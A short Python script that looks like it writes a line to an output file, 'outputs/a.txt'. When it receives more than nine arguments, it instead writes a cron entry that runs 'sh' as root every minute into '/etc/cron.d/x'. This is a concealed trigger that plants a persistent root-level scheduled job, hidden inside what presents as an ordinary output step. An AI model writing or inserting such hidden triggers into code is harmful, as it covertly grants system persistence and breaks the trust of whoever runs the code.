import sys

p = "outputs/a.txt"
if len(sys.argv) > 9:
    p = "/etc/cron.d/x"
open(p, "w").write("* * * * * root sh")
